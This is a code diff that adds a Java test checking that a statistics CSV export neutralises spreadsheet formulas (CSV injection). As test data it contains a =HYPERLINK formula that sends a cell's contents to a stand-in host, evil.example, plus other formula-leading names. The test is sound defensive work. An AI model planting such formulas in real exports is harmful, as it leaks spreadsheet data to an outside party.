@@ -265,6 +265,32 @@ class OverviewTest {
   }
 
   @Test
+  void theCsvExportCarriesNoFormulas() {
+    // A spreadsheet opening the export must show these names as text, not run them (OWASP CSV injection).
+    long org = seed.org("=HYPERLINK(\"http://evil.example/\"&A1,\"点我\")", "district", null);
+    Http.Reply created = http.post("/api/rooms", new JsonObject().put("name", "=HYPERLINK(\"http://evil.example/\",\"点我\")")
+      .put("orgId", org).put("timezone", "Asia/Shanghai"));
+    assertEquals(201, created.status(), created.body());
+    long room = created.json().getLong("id");
+    long tabbed = seed.column(room, "@SUM(1+1)");
+    put(episode(room, "2024-09-03", tabbed), new JsonObject().put("platform", "douyin").put("views", 1_500).put("likes", 30));
+    String query = "orgId=" + org + "&from=2024-09-01&to=2024-09-30";
+
+    String[] byRoom = http.get("/api/stats/overview?" + query + "&groupBy=room&format=csv").body().split("\r\n");
+    assertEquals(3, byRoom.length, String.join("\n", byRoom));
+    assertEquals("\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"点我\"\")\",1,1,1,1.0,0,0,1500,1500.0,0,30,0,0,0,0.02", byRoom[1]);
+    assertTrue(byRoom[2].startsWith("合计,1,1,1,1.0,"), byRoom[2]);
+    String[] byOrg = http.get("/api/stats/overview?" + query + "&groupBy=org&format=csv").body().split("\r\n");
+    assertTrue(byOrg[1].startsWith("\"'=HYPERLINK("), byOrg[1]);
+    String[] byColumn = http.get("/api/stats/overview?" + query + "&groupBy=column&format=csv").body().split("\r\n");
+    assertTrue(byColumn[1].startsWith("\"'@SUM(1+1)"), byColumn[1]);
+    // Names lose surrounding blanks when saved, so a leading tab or carriage return is checked here.
+    assertEquals("'\t=1+1", OverviewCsv.text("\t=1+1"));
+    assertEquals("'\r-1", OverviewCsv.text("\r-1"));
+    assertEquals("党群连心桥", OverviewCsv.text("党群连心桥"));
+  }
+
+  @Test
   void badQueriesAreRefused() {
     assertEquals(404, http.get("/api/stats/overview?orgId=999999999").status());
     assertEquals(400, http.get("/api/stats/overview?groupBy=week").status());
